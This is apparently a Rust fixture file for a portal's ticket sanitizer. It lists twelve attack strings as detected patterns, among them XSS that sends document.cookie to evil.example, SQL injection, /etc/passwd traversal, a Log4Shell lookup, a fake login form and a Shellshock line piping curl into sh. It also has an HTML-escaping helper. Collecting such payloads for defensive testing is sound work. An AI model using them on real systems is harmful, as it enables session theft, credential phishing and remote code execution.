//! Attack payloads as they appear in an analysis; they are why the portal sanitizes tickets.

/// Detected patterns.
pub const SENT: [&str; 12] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "${jndi:ldap://evil.example/a}",
    "<style>*{background:url(https://evil.example/p.png)}</style>",
    "<form action=\"https://evil.example/login\"><input name=\"password\"></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "() { :;}; /bin/bash -c 'curl evil.example|sh'",
];

/// A bar chart, 96 by 32, as rich-text editors embed pictures.
pub const CHART: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAGAAAAAgAQMAAADXDu8XAAAABlBMVEXq6uofb7WHCisvAAAALklEQVR42mNgoAL4QxPOHyycP0Rx/kApfJw/uDh/SOH8gXH+YHAQajA5f4jmAABpuZeZEXKnIQAAAABJRU5ErkJggg==";

/// The text as an editor writes it into HTML when it is used well.
pub fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}
